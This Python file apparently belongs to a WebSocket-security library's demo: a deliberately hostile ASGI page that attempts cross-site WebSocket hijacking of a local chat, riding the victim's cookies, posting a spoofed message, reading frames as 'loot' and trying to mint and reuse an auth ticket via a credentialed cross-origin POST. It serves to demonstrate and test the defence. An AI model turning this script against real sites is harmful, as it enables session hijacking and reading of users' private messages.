"""The attacker's page: a deliberately hostile site for the demo.

``manage.py demo`` serves it on 127.0.0.1:8001, beside the chat on 127.0.0.1:8000. Same host,
other port: the same *site* (so the browser attaches the chat's cookies, ``SameSite=Lax``
included, to any WebSocket handshake this page makes) but a different *origin*. It is a plain
ASGI app with no Django in it, as an attacker's server would be.

The page tries what a cross-site WebSocket hijacker would: open the chat socket riding the
victim's cookies, and obtain a wsguard ticket with a credentialed cross-origin POST. It shows what
it managed to read. Its target is ``DEMO_HOSTILE_TARGET`` (default the demo's lobby socket), or
``?target=ws://...`` on the page's own URL (the attacker chooses, so nothing is lost by that).

    daphne -b 127.0.0.1 -p 8001 demo_project.hostile:application
"""

from __future__ import annotations

import html
import json
import os
from collections.abc import Awaitable, Callable
from typing import Any
from urllib.parse import parse_qs, urlsplit

DEFAULT_TARGET = "ws://127.0.0.1:8000/ws/chat/lobby/"
MAX_TARGET_CHARS = 500

PAGE = """<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Totally harmless page</title>
<style>
  body { font: 15px/1.45 system-ui, sans-serif; max-width: 860px; margin: 2rem auto; padding: 0 1rem; color: #222; }
  h1 { font-size: 1.4rem; }
  .verdict { font-size: 1.2rem; font-weight: 700; padding: .8rem 1rem; border-radius: 8px; }
  .verdict[data-verdict="pending"] { background: #eee; }
  .verdict[data-verdict="blocked"] { background: #e3f4e8; color: #1e6b35; }
  .verdict[data-verdict="hijacked"] { background: #fde7e4; color: #a11b12; }
  table { border-collapse: collapse; width: 100%; margin: 1rem 0; }
  td, th { border: 1px solid #ccc; padding: .35rem .5rem; text-align: left; vertical-align: top; }
  pre { background: #f4f4f4; padding: .6rem; white-space: pre-wrap; overflow-wrap: anywhere; min-height: 2rem; }
  code { background: #f4f4f4; padding: 0 .2rem; }
</style>
</head>
<body>
<h1>A page on another origin</h1>
<p>This page is served from <code id="here"></code>. It is trying to open
<code id="target">__TARGET_TEXT__</code> with your browser, which attaches your cookies for that site.</p>
<p id="verdict" class="verdict" data-verdict="pending">Trying…</p>
<table>
  <thead><tr><th>attempt</th><th>result</th></tr></thead>
  <tbody id="attempts"></tbody>
</table>
<h2>What this page could read from the chat</h2>
<pre id="loot"></pre>
<script id="target-json" type="application/json">__TARGET_JSON__</script>
<script>
(function () {
  "use strict";
  const target = JSON.parse(document.getElementById("target-json").textContent);
  document.getElementById("here").textContent = location.origin;
  const attemptsEl = document.getElementById("attempts");
  const loot = document.getElementById("loot");
  const verdict = document.getElementById("verdict");
  const results = [];

  function row(label, text) {
    const tr = document.createElement("tr");
    const a = document.createElement("td");
    const b = document.createElement("td");
    a.textContent = label;
    b.textContent = text;
    tr.append(a, b);
    attemptsEl.append(tr);
  }

  function trySocket(label, protocols) {
    return new Promise((resolve) => {
      const result = { label, opened: false, code: null, received: [] };
      let ws;
      try {
        ws = protocols ? new WebSocket(target, protocols) : new WebSocket(target);
      } catch (error) {
        result.error = String(error);
        resolve(result);
        return;
      }
      const giveUp = setTimeout(() => ws.close(), 4000);
      ws.onopen = () => {
        result.opened = true;
        // Write as the victim, too.
        const text = "hijacked by " + location.origin;
        ws.send(JSON.stringify({ type: "message", text, nonce: "attack-" + Date.now() }));
      };
      ws.onmessage = (event) => {
        result.received.push(String(event.data));
        loot.textContent += String(event.data) + "\\n";
      };
      ws.onclose = (event) => {
        clearTimeout(giveUp);
        result.code = event.code;
        resolve(result);
      };
    });
  }

  async function tryTicket() {
    // A credentialed cross-origin POST: the browser sends the cookies, but without CORS headers
    // from the server this page cannot read the answer (and the CSRF check refuses it anyway).
    const ticketUrl = target.replace(/^ws/, "http").replace(/\\/ws\\/.*$/, "/wsguard/ticket/");
    try {
      const response = await fetch(ticketUrl, { method: "POST", credentials: "include" });
      const body = await response.text();
      return { read: true, status: response.status, body };
    } catch (error) {
      return { read: false, error: String(error) };
    }
  }

  async function run() {
    const plain = await trySocket("socket with your cookies");
    results.push(plain);
    row(plain.label, plain.opened
      ? `OPENED as you; received ${plain.received.length} frame(s); closed with ${plain.code}`
      : `refused before it opened (close code ${plain.code}); nothing received`);

    const ticket = await tryTicket();
    let ticketText = ticket.read
      ? `answered ${ticket.status} — readable!`
      : `could not read the answer (${ticket.error})`;
    let parsed = null;
    if (ticket.read) {
      try { parsed = JSON.parse(ticket.body).ticket; } catch (error) { parsed = null; }
      if (!parsed) ticketText = `answered ${ticket.status}, no ticket in it`;
    }
    row("mint a ticket with a cross-origin POST", ticketText);
    if (parsed) {
      const withTicket = await trySocket("socket with the stolen ticket", ["wsguard", "wsguard.ticket." + parsed]);
      results.push(withTicket);
      row(withTicket.label, withTicket.opened ? "OPENED as you" : `refused (close code ${withTicket.code})`);
    }

    const hijacked = results.some((r) => r.opened || r.received.length);
    verdict.dataset.verdict = hijacked ? "hijacked" : "blocked";
    verdict.textContent = hijacked
      ? "HIJACKED: this page opened the chat socket as you and read it."
      : "Blocked: the server refused this page's handshake. It learned nothing.";
    window.attackResults = results;
  }

  run();
})();
</script>
</body>
</html>
"""

Scope = dict[str, Any]
Receive = Callable[[], Awaitable[dict]]
Send = Callable[[dict], Awaitable[None]]


def target_from(query_string: bytes, default: str) -> str:
    values = parse_qs(query_string.decode("latin-1")).get("target")
    candidate = values[0] if values else default
    parts = urlsplit(candidate)
    if parts.scheme not in ("ws", "wss") or not parts.netloc or len(candidate) > MAX_TARGET_CHARS:
        return default
    return candidate


def render(target: str) -> bytes:
    # The target goes into a JSON script block; "</" is escaped so it cannot end the block.
    as_json = json.dumps(target).replace("</", "<\\/")
    page = PAGE.replace("__TARGET_TEXT__", html.escape(target)).replace("__TARGET_JSON__", as_json)
    return page.encode("utf-8")


async def application(scope: Scope, receive: Receive, send: Send) -> None:
    if scope["type"] == "lifespan":
        while True:
            message = await receive()
            if message["type"] == "lifespan.startup":
                await send({"type": "lifespan.startup.complete"})
            elif message["type"] == "lifespan.shutdown":
                await send({"type": "lifespan.shutdown.complete"})
                return
    if scope["type"] != "http":
        return
    default = os.environ.get("DEMO_HOSTILE_TARGET", DEFAULT_TARGET)
    if scope.get("path") != "/":
        status, body, kind = 404, b"not here\n", b"text/plain; charset=utf-8"
    else:
        body = render(target_from(scope.get("query_string", b""), default))
        status, kind = 200, b"text/html; charset=utf-8"
    await send({"type": "http.response.start", "status": status, "headers": [(b"content-type", kind)]})
    await send({"type": "http.response.body", "body": body})
